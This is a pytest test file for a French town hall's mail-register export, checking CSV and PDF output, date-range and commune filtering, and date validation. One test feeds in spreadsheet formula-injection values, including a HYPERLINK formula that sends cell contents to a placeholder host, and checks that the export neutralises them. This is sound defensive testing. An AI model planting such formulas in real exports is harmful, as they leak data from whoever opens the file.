"""Register export for a date range: CSV (semicolons, UTF-8 with BOM) and a PDF that replaces the paper book."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import subprocess
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError

from mairie.audit.models import AuditHead
from mairie.courrier.export import CSV_HEADER
from mairie.courrier.models import Courrier, Direction
from mairie.courrier.services import IncomingFile, find_or_create_contact, register_courrier

PARIS = ZoneInfo("Europe/Paris")


def _at(month: int, day: int, hour: int, minute: int = 0) -> dt.datetime:
    return dt.datetime(2025, month, day, hour, minute, tzinfo=PARIS)


@pytest.fixture
def march_register(world: Any, make_file: Any, text_pdf: Any) -> dict[str, Any]:
    """Courriers of March 2025 (both directions), just around it, and of another commune in March."""
    commune = world.commune
    contact = find_or_create_contact(
        organisation=commune,
        name="Durand",
        first_name="Jeanne",
        address_line1="3 chemin des Vignes",
        postal_code="34980",
        city="Saint-Aubin-les-Vignes",
    )
    quote = make_file("devis.pdf", text_pdf("Devis de réfection du clocher"))

    def register(subject: str, when: dt.datetime, org: Any = commune, **extra: Any) -> Courrier:
        return register_courrier(
            organisation=org, actor=world.secretary, subject=subject, received_at=when, **extra
        )

    inside = [
        register("Premier courrier de mars", _at(3, 1, 0, 10)),  # 23:10 UTC on 28 February
        register(
            "Devis du clocher",
            _at(3, 12, 9),
            contact=contact,
            service=world.service("Services techniques"),
            assigned_to=world.agent,
            due_date=dt.date(2025, 4, 1),
            files=[IncomingFile(quote, "devis.pdf")],
        ),
        register("Réponse au devis", _at(3, 14, 15), direction=Direction.DEPART, contact=contact),
        register("Dernier courrier de mars", _at(3, 31, 23, 50)),  # ten minutes before the end
    ]
    outside = [
        register("Courrier de février", _at(2, 28, 23, 50)),
        register("Courrier d'avril", _at(4, 1, 0, 5)),
        register("Départ d'avril", _at(4, 2, 10), direction=Direction.DEPART),
    ]
    foreign = register("Courrier de Villeneuve en mars", _at(3, 10, 10), org=world.other_commune)
    return {"inside": inside, "outside": outside, "foreign": foreign}


def _export(tmp_path: Path, fmt: str, *extra: str, org: str = "saint-aubin") -> tuple[Path, dict[str, Any]]:
    output = tmp_path / f"registre.{fmt}"
    out = io.StringIO()
    call_command(
        "register", "export", "--org", org, "--from", "2025-03-01", "--to", "2025-03-31",
        "--format", fmt, "--output", str(output), *extra, stdout=out,
    )  # fmt: skip
    return output, json.loads(out.getvalue())


@pytest.mark.django_db
def test_csv_export_holds_both_directions_of_the_period_and_nothing_else(tmp_path, world, march_register):
    output, summary = _export(tmp_path, "csv")

    raw = output.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM: Excel opens accents correctly
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))
    assert rows[0] == CSV_HEADER
    body = rows[1:]
    inside = march_register["inside"]
    assert summary == {"output": str(output), "format": "csv", "courriers": 4}
    # Arrivées first, then départs, each in numbering order.
    expected = sorted(inside, key=lambda c: (c.direction, c.number))
    assert [r[0] for r in body] == [c.chrono for c in expected]
    assert {r[1] for r in body} == {"Arrivée", "Départ"}
    text = raw.decode("utf-8-sig")
    for courrier in [*march_register["outside"], march_register["foreign"]]:
        assert courrier.subject not in text
    quote = next(r for r in body if r[6] == "Devis du clocher")
    courrier = inside[1]
    sha = courrier.documents.get().original.sha256
    assert quote == [
        courrier.chrono,
        "Arrivée",
        "12/03/2025 09:00",
        "Numérisation / dépôt de fichier",
        "Jeanne Durand",
        "3 chemin des Vignes, 34980 Saint-Aubin-les-Vignes",
        "Devis du clocher",
        "Lettre",
        "Services techniques",
        "Karim Benali",
        "01/04/2025",
        "À traiter",
        "1",
        sha,
    ]
    assert next(r for r in body if r[6] == "Premier courrier de mars")[2] == "01/03/2025 00:10"


@pytest.mark.django_db
def test_csv_export_of_one_direction_and_of_the_other_commune(tmp_path, world, march_register):
    output, summary = _export(tmp_path, "csv", "--direction", "depart")
    rows = list(csv.reader(io.StringIO(output.read_text(encoding="utf-8-sig")), delimiter=";"))[1:]
    assert [r[6] for r in rows] == ["Réponse au devis"] and summary["courriers"] == 1

    output, summary = _export(tmp_path, "csv", org="villeneuve")
    rows = list(csv.reader(io.StringIO(output.read_text(encoding="utf-8-sig")), delimiter=";"))[1:]
    assert [r[6] for r in rows] == ["Courrier de Villeneuve en mars"]


@pytest.mark.django_db
def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised(tmp_path, world):
    register_courrier(
        organisation=world.commune,
        actor=None,
        subject='=HYPERLINK("http://example.invalid/?x="&A1;"Cliquez")',
        received_at=_at(3, 5, 10),
        contact=find_or_create_contact(organisation=world.commune, name="@SUM(A1:A9)"),
    )
    output, _ = _export(tmp_path, "csv")
    [row] = list(csv.reader(io.StringIO(output.read_text(encoding="utf-8-sig")), delimiter=";"))[1:]
    assert row[6] == '\'=HYPERLINK("http://example.invalid/?x="&A1;"Cliquez")'
    assert row[4] == "'@SUM(A1:A9)"


@pytest.mark.django_db
def test_pdf_export_lists_every_chrono_of_the_period_and_no_other(tmp_path, world, march_register):
    output, summary = _export(tmp_path, "pdf")

    assert output.read_bytes().startswith(b"%PDF-")
    assert summary["courriers"] == 4
    extracted = subprocess.run(["pdftotext", str(output), "-"], capture_output=True, text=True, check=True)
    text = " ".join(extracted.stdout.split())  # table cells wrap their words over several lines
    for courrier in march_register["inside"]:
        assert courrier.chrono in text
        assert courrier.subject in text
    for courrier in march_register["outside"]:
        assert courrier.chrono not in text
        assert courrier.subject not in text
    assert march_register["foreign"].subject not in text
    assert "Registre du courrier — Saint-Aubin-les-Vignes" in text
    assert "du 01/03/2025 au 31/03/2025" in text
    assert "Courrier arrivée (3)" in text and "Courrier départ (1)" in text
    assert "Jeanne Durand" in text
    head = AuditHead.objects.get(organisation=world.commune)
    assert f"Journal d'audit à l'édition : {head.seq} entrées, empreinte de la dernière : {head.hash}" in text


@pytest.mark.django_db
def test_export_with_dates_in_the_wrong_order_or_format_is_refused_in_french(tmp_path, world):
    args = [
        "register",
        "export",
        "--org",
        "saint-aubin",
        "--format",
        "csv",
        "--output",
        str(tmp_path / "r.csv"),
    ]
    with pytest.raises(CommandError, match="doit précéder"):
        call_command(*args, "--from", "2025-04-01", "--to", "2025-03-01")
    with pytest.raises(CommandError, match="format attendu AAAA-MM-JJ"):
        call_command(*args, "--from", "01/03/2025", "--to", "2025-03-31")
    assert not (tmp_path / "r.csv").exists()
